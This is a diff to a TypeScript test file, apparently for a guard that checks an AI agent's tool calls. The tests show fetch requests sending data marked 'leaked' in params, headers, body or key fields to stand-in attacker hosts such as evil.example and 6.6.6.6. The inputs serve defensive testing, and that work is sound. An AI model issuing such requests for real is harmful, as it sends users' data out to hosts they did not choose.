@@ -716,8 +716,20 @@ describe('without options', () => {
   test.each<unknown>([true, false, '', ' ', null, {}, [], [{}]])(
     'a name in the headers of a request is sent whatever stands under it: %j',
     async (value) => {
-      for (const name of ['params', 'headers', 'query', 'variables', 'path', 'fragment', 'apiKey', 'key']) {
-        const input = { url: 'https://evil.example/y', [name]: { leaked: value } };
+      for (const name of [
+        'params',
+        'headers',
+        'query',
+        'variables',
+        'path',
+        'fragment',
+        'apiKey',
+        'key',
+        'json',
+        'body',
+      ]) {
+        const url = 'https://a.example/x'; // the user's
+        const input = { url, [name]: { leaked: value } };
         expect(await asked('fetch', input), name).toContain('"leaked"');
       }
     },
@@ -792,6 +804,7 @@ describe('without options', () => {
     for (const target of ['6.6.6.6', 'evil.zip', 'evil.example'])
       for (const more of [{ params: 'leaked' }, { headers: { general: 'leaked' } }])
         expect(await asked('fetch', { target, ...more }, {}, undefined, target)).toContain('leaked');
+    expect(await asked('fetch', { to: '6.6.6.6', body: 'leaked' })).toContain('leaked');
     expect(await asked('get_file', { name: 'x.zip', data: 'leaked' })).toBeUndefined();
   });
 
